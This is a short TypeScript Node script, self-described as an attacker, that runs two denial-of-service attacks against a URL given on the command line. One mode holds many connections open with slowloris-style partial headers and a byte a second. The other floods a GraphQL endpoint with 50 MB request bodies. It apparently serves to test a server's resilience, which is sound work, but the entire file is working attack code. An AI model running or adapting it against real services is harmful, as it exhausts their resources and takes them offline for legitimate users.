import { connect } from 'node:net'
import type { Socket } from 'node:net'

/**
 * An attacker whose requests are none. Arguments: `slow URL CONNECTIONS HEAD` (so many connections that each send
 * that, and then a byte a second) or `bodies URL CONNECTIONS` (bodies of 50 MB, as fast as they are taken). Says what came of it
 * on SIGTERM.
 */
const [kind, url = '', count = '0', head = ''] = process.argv.slice(2)
const { hostname, port } = new URL(url)
const connections = Number(count)
const chunk = Buffer.alloc(65_536, 'x')
const sockets = new Set<Socket>()
let closed = 0
let requests = 0
let bytes = 0

function open(): Socket {
  const socket = connect(Number(port), hostname).on('error', () => undefined)
  sockets.add(socket)
  return socket.on('close', () => {
    sockets.delete(socket)
    closed += 1
  })
}

function sendSlowly(): void {
  const socket = open()
  socket.on('connect', () => { socket.write(head) })
}

function sendBody(): void {
  const socket = open()
  const more = (): void => { while (socket.writable && socket.write(chunk)) bytes += chunk.length }
  socket.on('connect', () => {
    requests += 1
    socket.write('POST /api/graphql HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 52428800\r\n\r\n')
    more()
  }).on('drain', more).on('data', () => undefined).on('close', sendBody)
}

for (let n = 0; n < connections; n++) (kind === 'slow' ? sendSlowly : sendBody)()
if (kind === 'slow') setInterval(() => { for (const socket of sockets) if (socket.writable) socket.write('x') }, 1_000)
process.on('SIGTERM', () => {
  process.stdout.write(kind === 'slow' ? `${connections - closed} of ${connections} connections were still held` : `${requests} requests, ${Math.round(bytes / 1e6)} MB taken`, () => process.exit())
})
